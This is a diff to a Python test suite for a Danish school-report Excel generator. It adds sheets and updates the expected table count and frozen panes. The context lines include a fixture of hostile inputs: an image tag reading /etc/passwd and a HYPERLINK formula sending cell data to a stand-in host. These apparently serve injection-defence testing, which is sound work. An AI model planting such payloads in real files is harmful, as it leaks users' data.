@@ -20,7 +20,15 @@ MON, TUE, WED = (date(2026, 8, 10) + timedelta(at) for at in range(3))
 TODAY = date(2026, 8, 21)
 DEMO_DAY = date(2026, 11, 19)
 MADE_BY = "Mette Kragh (MEKR)"
-SHEETS = ["Overblik", "Elever", "Fravær", "Opfølgning", "Om rapporten"]
+SHEETS = [
+    "Overblik",
+    "Elever",
+    "Fravær",
+    "Makkere og grupper",
+    "Aktiviteter",
+    "Opfølgning",
+    "Om rapporten",
+]
 EVIL = (
     'Bo<img src="file:///etc/passwd">',
     '=HYPERLINK("http://x.example/"&A1;"klik")',
@@ -196,7 +204,7 @@ def test_a_young_course_is_not_made_tiny_by_the_width_of_its_legend(report):
 def test_the_sheets_are_tables_with_frozen_headings_and_print_well(report):
     book = load_workbook(report)
     tables = [table for sheet in book.worksheets for table in sheet.tables.values()]
-    assert len({table.displayName for table in tables}) == len(tables) == 4
+    assert len({table.displayName for table in tables}) == len(tables) == 7
     for sheet in book.worksheets:
         for table in sheet.tables.values():
             headings = [cell.value for cell in sheet[table.ref][0]]
@@ -207,8 +215,8 @@ def test_the_sheets_are_tables_with_frozen_headings_and_print_well(report):
         assert sheet.sheet_properties.pageSetUpPr.fitToPage
         assert sheet.oddHeader.right.text == "Fortroligt"
         assert sheet.oddFooter.right.text == "Side &P af &N"
-    frozen = [book[name].freeze_panes for name in SHEETS[:4]]
-    assert frozen == ["C6", "D5", "E5", "D5"]
+    frozen = [book[name].freeze_panes for name in SHEETS[:6]]
+    assert frozen == ["C6", "D5", "E5", "E5", "D5", "D5"]
     assert book["Elever"].print_title_rows == "$4:$4"
     assert book["Fravær"].auto_filter.ref.startswith("A4:D")
     assert len(book["Overblik"]._charts) == 1
